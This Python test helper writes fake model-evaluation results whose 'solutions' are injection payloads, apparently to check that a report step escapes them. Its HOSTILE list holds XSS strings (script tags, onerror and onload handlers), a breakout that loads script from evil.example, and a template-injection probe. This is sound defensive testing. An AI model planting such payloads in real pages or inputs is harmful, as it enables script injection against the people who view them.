"""Results folders with solutions that try to run in the reader's browser."""

import json

from evaluations import write_evaluation, write_table

from workflow_scripts import summary

HOSTILE = [
    "<script>document.title = 'broken in'</script>",
    "</pre></details><img src=x onerror=\"document.title = 'broken in'\">",
    "<svg/onload=\"document.title = 'broken in'\">",
    "]]></script><script src=//evil.example></script>",
    "{{ 7 * 7 }}{% raw %}",
]


def write_results(folder, models: dict[str, int], count=20, seeds=(), families=1) -> None:
    """A results folder with its summary.

    models: the problems that each solves, and one more with each further seed. families: of the
    problems.
    """
    rows = []
    for number, seed in enumerate((42, *seeds)):
        for model, first in models.items():
            solved = first + number
            prefix = f"seed~{seed}/" if number else ""
            place = f"{prefix}eval/{model}/own.json"
            file = folder / place
            write_evaluation(
                file, base=solved, plus=solved, count=count, dataset="own", model=f"{prefix}{model}"
            )
            result = json.loads(file.read_text())
            result["versions"] = {"torch": "2.0"}
            lines = []
            for problem in result["problems"]:
                family, _, index = problem["task_id"].partition("/")
                task = f"{family}/{index}" if families == 1 else f"F{int(index) % families}/{index}"
                problem |= {"task_id": task, "sample": 0, "failed_call": None}
                code = HOSTILE[len(lines) % len(HOSTILE)]
                row = {"task_id": problem["task_id"], "number": 0, "solution": code}
                lines.append(json.dumps(row) + "\n")
            file.write_text(json.dumps(result))
            file.with_name("own.generations.jsonl").write_text("".join(lines))
            rows.append({"model": model, "dataset": "own", "seed": seed, "eval": place})
    table = write_table(folder / "runs.csv", rows)
    summary.main(["--runs", str(table), "--out", str(folder / "summary.csv")])
